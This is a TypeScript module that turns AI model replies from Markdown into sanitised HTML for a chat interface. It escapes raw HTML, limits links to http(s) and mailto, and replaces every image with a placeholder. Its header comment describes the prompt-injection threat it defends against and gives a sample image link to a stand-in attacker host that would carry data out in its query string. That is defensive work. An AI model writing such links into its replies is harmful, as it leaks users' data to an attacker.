/**
 * Model output to safe HTML. Model output is untrusted (a prompt injection can write anything), so:
 * raw HTML is shown as text; links only to http(s) and mailto, opened by click in a new tab without
 * referrer; no image is ever loaded (a placeholder shows the URL, so `![](https://attacker/?q=…)`
 * makes no request); and DOMPurify sanitises the result with an allow-list. Loaded lazily.
 */
import DOMPurify from 'dompurify';
import { Marked } from 'marked';

export interface RenderLabels {
  copyCode: string;
  codeLanguage: (lang: string) => string;
  imageNotLoaded: (alt: string, url: string) => string;
}

const SAFE_LINK = /^(?:https?:|mailto:)/i;
/**
 * DOMPurify checks every attribute value against this (not only URLs): DOMPurify's default minus its
 * extra schemes. Values without a scheme pass ("js", "button"); of schemes, only http(s) and mailto.
 */
const ALLOWED_VALUES = /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

const ALLOWED_TAGS = [
  'p',
  'br',
  'hr',
  'em',
  'strong',
  'del',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'a',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'span',
  'div',
  'button',
  'input',
];
const ALLOWED_ATTR = ['href', 'title', 'target', 'rel', 'class', 'type', 'align', 'data-copy', 'data-lang', 'checked', 'disabled'];

let purifierReady = false;
function purify(html: string): string {
  if (!purifierReady) {
    purifierReady = true;
    // Every link leaves the page the same safe way; anything else that survived is stripped to text.
    DOMPurify.addHook('afterSanitizeAttributes', (node) => {
      if (node.tagName === 'A') {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', 'noopener noreferrer');
      }
      if (node.tagName === 'INPUT' && node.getAttribute('type') !== 'checkbox') node.remove();
    });
  }
  return DOMPurify.sanitize(html, {
    ALLOWED_TAGS,
    ALLOWED_ATTR,
    ALLOWED_URI_REGEXP: ALLOWED_VALUES,
    ALLOW_DATA_ATTR: false,
    RETURN_TRUSTED_TYPE: false,
  }) as string;
}

function createMarked(labels: RenderLabels): Marked {
  const marked = new Marked({ gfm: true, async: false });
  marked.use({
    renderer: {
      // Raw HTML in model output is shown, not run.
      html: ({ text }) => escapeHtml(text),
      link({ href, title, tokens }) {
        const label = this.parser.parseInline(tokens);
        const target = href.trim();
        if (!SAFE_LINK.test(target)) return label;
        const titled = title ? ` title="${escapeHtml(title)}"` : '';
        return `<a href="${escapeHtml(target)}"${titled} target="_blank" rel="noopener noreferrer">${label}</a>`;
      },
      image: ({ href, text }) => `<span class="image-placeholder">${escapeHtml(labels.imageNotLoaded(text, href))}</span>`,
      code({ text, lang }) {
        const language = (lang ?? '').trim().split(/\s+/)[0] ?? '';
        return (
          `<div class="code-block"><div class="code-head"><span class="code-lang">${escapeHtml(labels.codeLanguage(language))}</span>` +
          `<button type="button" class="copy-code" data-copy="">${escapeHtml(labels.copyCode)}</button></div>` +
          `<pre><code data-lang="${escapeHtml(language)}">${escapeHtml(text)}</code></pre></div>`
        );
      },
    },
  });
  return marked;
}

/**
 * Splits Markdown into blocks at blank lines outside fenced code, so a streaming reply re-parses only
 * its last, still-growing block.
 */
export function splitBlocks(source: string): string[] {
  const blocks: string[] = [];
  let current: string[] = [];
  let fence: string | null = null;
  for (const line of source.split('\n')) {
    const marker = /^\s{0,3}(`{3,}|~{3,})/.exec(line)?.[1];
    if (marker && (fence === null || (marker[0] === fence[0] && marker.length >= fence.length))) fence = fence === null ? marker : null;
    if (fence === null && line.trim() === '' && current.length > 0) {
      blocks.push(current.join('\n'));
      current = [];
    } else {
      current.push(line);
    }
  }
  if (current.length > 0) blocks.push(current.join('\n'));
  return blocks;
}

export interface Renderer {
  /** Safe HTML for a text, parsed now. */
  render(source: string): string;
  /** The same for a block that will not change again (a finished block of a streaming reply): parsed once. */
  renderCached(block: string): string;
}

export function createRenderer(labels: RenderLabels): Renderer {
  const marked = createMarked(labels);
  const render = (text: string) => purify(marked.parse(text) as string);
  const cache = new Map<string, string>();
  return {
    render,
    renderCached(block) {
      let html = cache.get(block);
      if (html === undefined) {
        html = render(block);
        if (cache.size > 500) cache.clear();
        cache.set(block, html);
      }
      return html;
    },
  };
}

/** Highlights code blocks in place; highlight.js loads only when a reply has code with a known language. */
export async function highlightCode(root: HTMLElement): Promise<void> {
  const blocks = [...root.querySelectorAll<HTMLElement>('code[data-lang]')].filter((c) => c.dataset.lang);
  if (blocks.length === 0) return;
  const { default: hljs } = await import('highlight.js/lib/common');
  for (const code of blocks) {
    const language = code.dataset.lang ?? '';
    if (!hljs.getLanguage(language)) continue;
    code.innerHTML = purify(hljs.highlight(code.textContent ?? '', { language, ignoreIllegals: true }).value);
    code.classList.add('hljs');
  }
}
